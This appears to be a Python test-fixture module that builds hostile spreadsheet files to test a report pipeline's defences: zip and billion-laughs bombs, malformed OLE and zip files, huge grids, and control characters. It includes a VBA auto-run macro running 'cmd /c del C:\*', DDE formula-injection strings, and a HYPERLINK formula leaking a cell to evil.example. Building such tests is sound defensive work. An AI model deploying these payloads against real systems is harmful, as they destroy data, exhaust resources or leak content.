"""Hostile inputs, built in tmp_path by the tests: nothing hostile is ever committed.

Each generator writes one file and returns its path. Most start from a valid report made with
conftest.submit and change it with zip surgery (no Excel library would write these files), so a
rejection proves the defence and not a broken fixture.
"""
from __future__ import annotations

import os
import random
import re
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Callable

from pipeline.plan.layout import SHEET_INDICATORS

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORKSHEET_TYPE = REL_NS + "/worksheet"
WORKSHEET_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"

# --- zip surgery ---------------------------------------------------------------------------------


def _keep_mtime(source: Path, target: Path) -> Path:
    stat = source.stat()
    os.utime(target, (stat.st_atime, stat.st_mtime))
    return target


def rewrite_zip(source: Path, target: Path, change: dict[str, Callable[[bytes], bytes]] | None = None,
                add: dict[str, bytes] | None = None) -> Path:
    """Copy a workbook's zip, passing chosen parts through functions and adding new ones; the copy
    keeps the source's modification time (that is when the unit sent it)."""
    change, add = change or {}, add or {}
    tmp = target.with_name(target.name + ".building")
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename in change:
                data = change[info.filename](data)
            zout.writestr(info.filename, data)
        for name, data in add.items():
            zout.writestr(name, data)
    os.replace(tmp, target)
    return _keep_mtime(source, target)


def sheet_part(source: Path, sheet: str) -> str:
    """The zip member holding a sheet, found through workbook.xml and its relationships."""
    with zipfile.ZipFile(source) as zf:
        book = zf.read("xl/workbook.xml").decode()
        rels = zf.read("xl/_rels/workbook.xml.rels").decode()
    rid = next(m.group(2) for m in re.finditer(r'<sheet\b[^>]*?name="([^"]*)"[^>]*?r:id="([^"]+)"', book)
               if _unescape(m.group(1)) == sheet)
    target = next(re.search(r'Target="([^"]+)"', rel).group(1) for rel in re.findall(r"<Relationship\b[^>]*>", rels)
                  if f'Id="{rid}"' in rel)
    return target.lstrip("/") if target.startswith("/") else f"xl/{target}"


def _unescape(text: str) -> str:
    import html
    return html.unescape(text)


def set_cell_xml(ref: str, inner: str | bytes, cell_type: str | None = None) -> Callable[[bytes], bytes]:
    """A part changer putting raw XML inside cell `ref` (kept style, optional t= attribute)."""
    inner = inner.encode() if isinstance(inner, str) else inner

    def change(xml: bytes) -> bytes:
        pattern = rb'<c r="' + ref.encode() + rb'"([^>]*?)(?:/>|>.*?</c>)'

        def cell(m: re.Match) -> bytes:
            attrs = re.sub(rb'\s+t="[^"]*"', b"", m.group(1))
            typed = f' t="{cell_type}"'.encode() if cell_type else b""
            return b'<c r="' + ref.encode() + b'"' + attrs + typed + b">" + inner + b"</c>"
        new, count = re.subn(pattern, cell, xml, count=1, flags=re.S)
        assert count == 1, f"cell {ref} not in the sheet"
        return new
    return change


def chain(*changers: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        for fn in changers:
            data = fn(data)
        return data
    return change


def change_cells(source: Path, target: Path, cells: dict[str, tuple[str | bytes, str | None]],
                 sheet: str = SHEET_INDICATORS) -> Path:
    """Put raw XML into cells of one sheet: {ref: (inner xml, t attribute)}."""
    return rewrite_zip(source, target, {sheet_part(source, sheet): chain(*(set_cell_xml(ref, inner, t)
                                                                           for ref, (inner, t) in cells.items()))})


def inline_text(text: str) -> tuple[str, str]:
    """A cell holding `text` as an inline string (XML-escaped, spaces kept)."""
    from xml.sax.saxutils import escape
    return f'<is><t xml:space="preserve">{escape(text)}</t></is>', "inlineStr"


def add_sheets(source: Path, target: Path, sheets: dict[str, bytes]) -> Path:
    """Add worksheets (raw sheet XML) to a workbook: parts, relationships, content types and names."""
    with zipfile.ZipFile(source) as zf:
        names = set(zf.namelist())
    parts, rels, entries, types = {}, [], [], []
    for i, (name, xml) in enumerate(sheets.items(), start=1):
        part = f"xl/worksheets/extra{i}.xml"
        assert part not in names
        parts[part] = xml
        rels.append(f'<Relationship Id="rIdX{i}" Type="{WORKSHEET_TYPE}" Target="/{part}"/>')
        entries.append(f'<sheet xmlns:r="{REL_NS}" name="{name}" sheetId="{1000 + i}" r:id="rIdX{i}"/>')
        types.append(f'<Override PartName="/{part}" ContentType="{WORKSHEET_CT}"/>')
    change = {
        "xl/workbook.xml": lambda x: x.replace(b"</sheets>", "".join(entries).encode() + b"</sheets>"),
        "xl/_rels/workbook.xml.rels": lambda x: x.replace(b"</Relationships>",
                                                          "".join(rels).encode() + b"</Relationships>"),
        "[Content_Types].xml": lambda x: x.replace(b"</Types>", "".join(types).encode() + b"</Types>"),
    }
    return rewrite_zip(source, target, change, parts)


def sheet_xml(rows: int, cols: int = 4) -> bytes:
    """A plain worksheet of `rows` × `cols` numbers (and a text column), as Excel would store it."""
    out = [f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="{MAIN_NS}">'
           f'<dimension ref="A1:{chr(64 + cols + 1)}{rows}"/><sheetData>']
    for r in range(1, rows + 1):
        cells = "".join(f'<c r="{chr(65 + c)}{r}"><v>{r * 10 + c}</v></c>' for c in range(cols))
        out.append(f'<row r="{r}">{cells}<c r="{chr(65 + cols)}{r}" t="inlineStr"><is><t>dòng {r}</t></is></c></row>')
    out.append("</sheetData></worksheet>")
    return "".join(out).encode()


# --- not a spreadsheet ---------------------------------------------------------------------------


def html_as_xls(path: Path) -> Path:
    """What web portals export as «Excel»: an HTML table named .xls."""
    path.write_text('<html><head><meta charset="utf-8"></head><body><table><tr><td>Mã chỉ tiêu</td>'
                    '<td>Số phải thực hiện trong kỳ</td></tr><tr><td>1.1</td><td>4</td></tr></table></body></html>',
                    encoding="utf-8")
    return path


def csv_as_xls(path: Path) -> Path:
    path.write_text("Mã chỉ tiêu,Số phải thực hiện trong kỳ,Số hoàn thành đúng hạn\n1.1,4,4\n1.2,3,3\n",
                    encoding="utf-8")
    return path


def pdf_as_xlsx(path: Path) -> Path:
    path.write_bytes(b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
                     b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
    return path


def random_bytes(path: Path, size: int = 64 * 1024, seed: int = 7) -> Path:
    data = random.Random(seed).randbytes(size)
    assert not data.startswith((b"PK", b"\xd0\xcf"))
    path.write_bytes(data)
    return path


def empty_file(path: Path) -> Path:
    path.write_bytes(b"")
    return path


def truncated(source: Path, path: Path, keep: float = 0.5) -> Path:
    """A download or copy cut short: the zip's central directory is missing."""
    data = source.read_bytes()
    path.write_bytes(data[: int(len(data) * keep)])
    return _keep_mtime(source, path)


# --- encrypted -----------------------------------------------------------------------------------

_FREE, _END, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def _dir_entry(name: str, kind: int, child: int = _NOSTREAM, right: int = _NOSTREAM, start: int = _END,
               size: int = 0) -> bytes:
    encoded = (name + "\0").encode("utf-16-le") if name else b""
    return (encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1 if kind else 0)
            + struct.pack("<III", _NOSTREAM, right, child) + b"\0" * 16 + struct.pack("<I", 0) + b"\0" * 16
            + struct.pack("<IQ", start, size))


def ole_file(streams: list[tuple[str, bytes]]) -> bytes:
    """A minimal, well-formed OLE compound file (CFB v3) holding two streams of at least 4 KB
    (smaller ones would live in the mini stream, which this builder does not write)."""
    fat = [_FATSECT, _END]                     # sector 0: the FAT; sector 1: the directory
    starts = []
    padded = [data.ljust(4096, b"\0") for _, data in streams]
    for data in padded:
        first, count = len(fat), -(-len(data) // 512)
        starts.append(first)
        fat += [first + i + 1 for i in range(count - 1)] + [_END]
    fat += [_FREE] * (128 - len(fat))
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, _END, 0, _END, 0)
              + struct.pack("<I", 0) + struct.pack("<I", _FREE) * 108)
    # The directory is a red-black tree; all black is valid: the first stream must sort before the
    # second (a shorter name first), which makes the second its right sibling.
    (first_name, first_data), (second_name, second_data) = streams
    assert (len(first_name), first_name.upper()) < (len(second_name), second_name.upper())
    directory = (_dir_entry("Root Entry", 5, child=1)
                 + _dir_entry(first_name, 2, right=2, start=starts[0], size=len(first_data))
                 + _dir_entry(second_name, 2, start=starts[1], size=len(second_data)) + _dir_entry("", 0))
    return header + struct.pack("<128I", *fat) + directory + b"".join(d.ljust(-(-len(d) // 512) * 512, b"\0")
                                                                      for d in padded)


def encrypted_workbook(path: Path) -> Path:
    """What Excel writes for «Encrypt with Password»: not a zip but an OLE compound file holding
    EncryptionInfo and EncryptedPackage streams."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<encryption/>"      # agile encryption header, version 4.4
    package = struct.pack("<Q", 12345) + random.Random(3).randbytes(4000)
    path.write_bytes(ole_file([("EncryptionInfo", info), ("EncryptedPackage", package)]))
    return path


def panicking_xls(path: Path) -> Path:
    """An .xls whose directory starts in a last sector cut to 91 bytes: calamine 0.37 panics
    («range start index 116 out of range»), which pyo3 raises as a BaseException."""
    data = bytearray(ole_file([("Workbook", b"\x09\x08" + b"\0" * 4094), ("SummaryInfo", b"\0" * 4096)]))
    last = len(data) // 512 - 2                   # sectors are counted after the 512-byte header
    struct.pack_into("<I", data, 48, last)
    path.write_bytes(bytes(data[: 512 * (last + 1) + 91]))
    return path


# --- bombs ---------------------------------------------------------------------------------------

BILLION_LAUGHS = ('<!DOCTYPE worksheet [<!ENTITY lol "lol">'
                  + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1 if i > 1 else "") + ";") * 10}">'
                            for i in range(1, 10)) + "]>")


def xml_bomb(source: Path, path: Path, padding: int = 0) -> Path:
    """Nested entities (a billion laughs) in the indicator sheet of an otherwise valid report; with
    `padding`, a long comment first pushes the DOCTYPE past any look at the first few kilobytes."""
    def change(xml: bytes) -> bytes:
        body = re.sub(rb"^<\?xml[^>]*\?>", b"", xml)
        body = set_cell_xml("K10", "<is><t>&lol9;</t></is>", "inlineStr")(body)
        lead = f"<!--{'x' * padding}-->" if padding else ""
        return f'<?xml version="1.0" encoding="UTF-8"?>{lead}{BILLION_LAUGHS}'.encode() + body
    return rewrite_zip(source, path, {sheet_part(source, SHEET_INDICATORS): change})


def _raw_zip(path: Path, members: list[tuple[str, bytes, int, int]], method: int = 8, flags: int = 0x800) -> Path:
    """A zip written by hand from (name, raw deflate data, crc32, declared size): zipfile cannot
    take pre-compressed data, and the bombs need exactly that; `method` and `flags` are what every
    member declares (the data is always deflate)."""
    out, central = bytearray(), bytearray()
    for name, data, crc, size in members:
        encoded = name.encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0x21, crc, len(data), size,
                           len(encoded), 0) + encoded + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, method, 0, 0x21, crc, len(data),
                               size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded
    out += central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central),
                                 len(out), 0)
    path.write_bytes(bytes(out))
    return path


def _deflate(data: bytes) -> bytes:
    co = zlib.compressobj(6, zlib.DEFLATED, -15)
    return co.compress(data) + co.flush()


def zip_bomb(source: Path, path: Path, gigabytes: int = 2, declared: int | None = None) -> Path:
    """A valid report whose indicator sheet is padded with `gigabytes` GiB of spaces: about 2 MB on
    disk. Built from one deflate block repeated (a full flush resets the window, so the copies
    are independent); nothing is ever inflated here. `declared` lies about the inflated size."""
    part = sheet_part(source, SHEET_INDICATORS)
    block = b" " * (1 << 24)
    copies = gigabytes * 64
    members = []
    with zipfile.ZipFile(source) as zf:
        for info in zf.infolist():
            data = zf.read(info)
            if info.filename != part:
                members.append((info.filename, _deflate(data), zlib.crc32(data), len(data)))
                continue
            cut = data.rindex(b"</worksheet>")
            co = zlib.compressobj(6, zlib.DEFLATED, -15)
            head = co.compress(data[:cut]) + co.flush(zlib.Z_FULL_FLUSH)
            middle = co.compress(block) + co.flush(zlib.Z_FULL_FLUSH)
            tail = co.compress(data[cut:]) + co.flush(zlib.Z_FINISH)
            crc = zlib.crc32(data[:cut])
            for _ in range(copies):
                crc = zlib.crc32(block, crc)
            crc = zlib.crc32(data[cut:], crc)
            size = len(data) + copies * len(block)
            members.append((info.filename, head + middle * copies + tail, crc,
                            (declared if declared is not None else size) & 0xFFFFFFFF))
    return _keep_mtime(source, _raw_zip(path, members))


def repacked(source: Path, path: Path, method: int = 8, flags: int = 0x800) -> Path:
    """The report's members re-packed declaring another compression `method` (9: Deflate64, which
    zipfile does not know) or `flags` (1: encrypted with a zip password, as 7-Zip does)."""
    with zipfile.ZipFile(source) as zf:
        members = [(i.filename, _deflate(d), zlib.crc32(d), len(d)) for i in zf.infolist() for d in [zf.read(i)]]
    return _keep_mtime(source, _raw_zip(path, members, method, flags))


def many_entries(source: Path, path: Path, count: int = 5000) -> Path:
    """A zip with thousands of tiny members (each costs the reader a directory entry)."""
    return rewrite_zip(source, path, add={f"customXml/item{i}.xml": b"<a/>" for i in range(count)})


# --- sheets that claim or reach a huge grid ------------------------------------------------------


def claimed_dimension(source: Path, path: Path, ref: str = "A1:O1000000") -> Path:
    """The indicator sheet's <dimension> claims a million rows (its cells are the real report)."""
    return rewrite_zip(source, path, {sheet_part(source, SHEET_INDICATORS):
                                      lambda x: re.sub(rb'<dimension ref="[^"]*"/>', f'<dimension ref="{ref}"/>'.encode(),
                                                       x, count=1)})


def far_corner(source: Path, path: Path, ref: str = "XFD1048576", quote: str = '"') -> Path:
    """The indicator sheet also holds a cell at XFD1048576 and has no <dimension>: calamine then
    allocates the dense grid A1:XFD1048576 (hundreds of GB) and aborts its process. XML allows the
    attribute in single quotes too."""
    row = int(re.sub(r"\D", "", ref))

    def change(xml: bytes) -> bytes:
        xml = re.sub(rb'<dimension ref="[^"]*"/>', b"", xml, count=1)
        cell = f"<row r={quote}{row}{quote}><c r={quote}{ref}{quote}><v>1</v></c></row>"
        return xml.replace(b"</sheetData>", f"{cell}</sheetData>".encode(), 1)
    return rewrite_zip(source, path, {sheet_part(source, SHEET_INDICATORS): change})


def ods_repeat_bomb(path: Path, rows: int = 1_000_000, cols: int = 90) -> Path:
    """An 800-byte .ods whose one cell is repeated into 90 million (ODS repeat attributes)."""
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
               f'<office:spreadsheet><table:table table:name="S"><table:table-row table:number-rows-repeated="{rows}">'
               f'<table:table-cell table:number-columns-repeated="{cols}" office:value-type="float" office:value="1">'
               '<text:p>1</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>'
               '</office:body></office:document-content>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                '<manifest:file-entry manifest:full-path="/" '
                'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                '</manifest:manifest>')
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED)
        zf.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
        zf.writestr("META-INF/manifest.xml", manifest, compress_type=zipfile.ZIP_DEFLATED)
    return path


# --- macros, links, formulas ---------------------------------------------------------------------

VBA_MARKER = "Shell(\"cmd /c del C:\\*\")"


def with_vba(source: Path, path: Path) -> Path:
    """A macro-enabled copy (.xlsm) holding a VBA project with an auto-run macro."""
    project = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
               + f"Attribute VB_Name = \"ThisWorkbook\"\nSub Workbook_Open()\n  {VBA_MARKER}\nEnd Sub\n".encode())
    change = {
        "[Content_Types].xml": lambda x: x.replace(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
            b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'),
        "xl/_rels/workbook.xml.rels": lambda x: x.replace(
            b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
                                 b'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>'),
    }
    return rewrite_zip(source, path, change, {"xl/vbaProject.bin": project})


def with_external_link(source: Path, path: Path, cell: str, cached: int | None,
                       target: str = "file:///C:/Bao%20cao/so-lieu-goc.xlsx") -> Path:
    """`cell` = [1]Sheet1!A1, a formula into another workbook (with or without its saved result)."""
    link = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="{MAIN_NS}" '
            f'xmlns:r="{REL_NS}"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
            '</externalBook></externalLink>').encode()
    link_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
                 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
                 f'Type="{REL_NS}/externalLinkPath" Target="{target}" TargetMode="External"/></Relationships>').encode()
    value = "" if cached is None else f"<v>{cached}</v>"
    change = {
        sheet_part(source, SHEET_INDICATORS): set_cell_xml(cell, f"<f>[1]Sheet1!A1</f>{value}"),
        "xl/workbook.xml": lambda x: x.replace(b"</sheets>", f'</sheets><externalReferences><externalReference '
                                                             f'xmlns:r="{REL_NS}" r:id="rIdExt"/>'
                                                             '</externalReferences>'.encode()),
        "xl/_rels/workbook.xml.rels": lambda x: x.replace(
            b"</Relationships>", f'<Relationship Id="rIdExt" Type="{REL_NS}/externalLink" '
                                 'Target="externalLinks/externalLink1.xml"/></Relationships>'.encode()),
        "[Content_Types].xml": lambda x: x.replace(
            b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
                         b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>'),
    }
    return rewrite_zip(source, path, change, {"xl/externalLinks/externalLink1.xml": link,
                                              "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})


def formula_without_value(source: Path, path: Path, cells: dict[str, str]) -> Path:
    """Formulas in input cells with no saved result, as tools that never calculate write them."""
    return change_cells(source, path, {ref: (f"<f>{formula}</f>", None) for ref, formula in cells.items()})


# --- strange text --------------------------------------------------------------------------------

def huge_string(source: Path, path: Path, cell: str, length: int = 1_000_000) -> Path:
    """A cell far beyond Excel's 32,767 characters (Excel cannot save it; other tools can)."""
    return change_cells(source, path, {cell: inline_text("Báo cáo số 1/BC " + "x" * length)})


CONTROL_TEXT = "Báo cáo\u0007 số\u001b[31m 2/BC\u202e\u200b"     # bell, ANSI escape, RTL override, zero width


def control_characters(source: Path, path: Path, cell: str) -> Path:
    """Control characters as Excel writes them (_x0007_ escapes) plus bidi and zero-width marks."""
    escaped = re.sub(r"[\x00-\x1f]", lambda m: f"_x{ord(m.group()):04X}_", CONTROL_TEXT)
    return change_cells(source, path, {cell: inline_text(escaped)})


def invalid_xml_characters(source: Path, path: Path, cell: str, raw: bool) -> Path:
    """Characters XML 1.0 forbids: as raw bytes (\\x01, \\x00) or as character references (&#1;)."""
    inner = b"<is><t>Minh ch\xe1\xbb\xa9ng \x01\x00 s\xe1\xbb\x91 3</t></is>" if raw else b"<is><t>Minh &#1;&#0; 3</t></is>"
    return change_cells(source, path, {cell: (inner, "inlineStr")})


def many_rows(source: Path, path: Path, rows: int = 50_000) -> Path:
    """A valid report with an extra sheet of raw data: 50,000 rows."""
    return add_sheets(source, path, {"Số liệu chi tiết": sheet_xml(rows)})


def many_sheets(source: Path, path: Path, count: int = 200) -> Path:
    """A valid report carrying `count` more sheets (a workbook reused for everything)."""
    return add_sheets(source, path, {f"Trang {i}": sheet_xml(5, 2) for i in range(1, count - 3)})


# Text a spreadsheet would turn into a formula, a link or a DDE call if written as typed.
FORMULA_LIKE = (
    '=HYPERLINK("http://evil.example/x?"&A1,"Bấm vào đây")',
    "=1+1",
    "+84 912 345 678",
    "-2+3",
    "@SUM(1,2)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
    "http://evil.example/tai-ve.exe",
)


def type_text(path: Path, sheet: str, values: dict[str, str]) -> Path:
    """Type `values` as text, as a clerk does with a leading apostrophe: conftest.edit_cells would
    store a string starting with «=» as a formula, which is not what a clerk's text is."""
    import openpyxl
    stat = path.stat()
    wb = openpyxl.load_workbook(path)
    for ref, value in values.items():
        cell = wb[sheet][ref]
        cell.value = value
        cell.data_type = "s"
        cell.quotePrefix = True
    wb.save(path)
    os.utime(path, (stat.st_atime, stat.st_mtime))
    return path


# --- running mtcl as the scheduler does ----------------------------------------------------------

ROOT = Path(__file__).resolve().parents[1]


class Done:
    """A finished `mtcl` process: exit code, output, wall time and peak memory of it and its readers."""

    def __init__(self, returncode: int, stdout: str, stderr: str, seconds: float, peak_mb: float):
        self.returncode, self.stdout, self.stderr, self.seconds, self.peak_mb = \
            returncode, stdout, stderr, seconds, peak_mb


def start_cli(args: list[str], out_dir: Path, preload: str | None = None):
    """`python -m pipeline ARGS` in its own process group (so a test can kill it with its readers);
    `preload` is Python run at start-up (a sitecustomize), to slow a stage down deterministically."""
    import subprocess
    import sys
    path = [str(ROOT)]
    if preload is not None:
        (out_dir / "preload").mkdir(parents=True, exist_ok=True)
        (out_dir / "preload" / "sitecustomize.py").write_text(preload, encoding="utf-8")
        path.insert(0, str(out_dir / "preload"))
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(path)}
    out_dir.mkdir(parents=True, exist_ok=True)
    stdout, stderr = (out_dir / "stdout").open("wb"), (out_dir / "stderr").open("wb")
    proc = subprocess.Popen([sys.executable, "-m", "pipeline", *args], stdout=stdout, stderr=stderr, env=env,
                            cwd=ROOT, start_new_session=True)
    stdout.close()
    stderr.close()
    return proc


def run_cli(args: list[str], timeout: float, out_dir: Path | None = None) -> Done:
    """Run `mtcl ARGS` to the end (killed after `timeout` seconds) and measure it with wait4: the peak
    RSS covers the process and the reader workers it waited for."""
    import signal
    import tempfile
    import threading
    import time
    out_dir = out_dir or Path(tempfile.mkdtemp(prefix="mtcl-cli-"))
    started = time.monotonic()
    proc = start_cli(args, out_dir)
    timer = threading.Timer(timeout, lambda: os.killpg(proc.pid, signal.SIGKILL))
    timer.start()
    try:
        _, status, usage = os.wait4(proc.pid, 0)
    finally:
        timer.cancel()
    proc.returncode = os.waitstatus_to_exitcode(status)
    return Done(proc.returncode, (out_dir / "stdout").read_text(encoding="utf-8", errors="replace"),
                (out_dir / "stderr").read_text(encoding="utf-8", errors="replace"), time.monotonic() - started,
                usage.ru_maxrss / 1024)
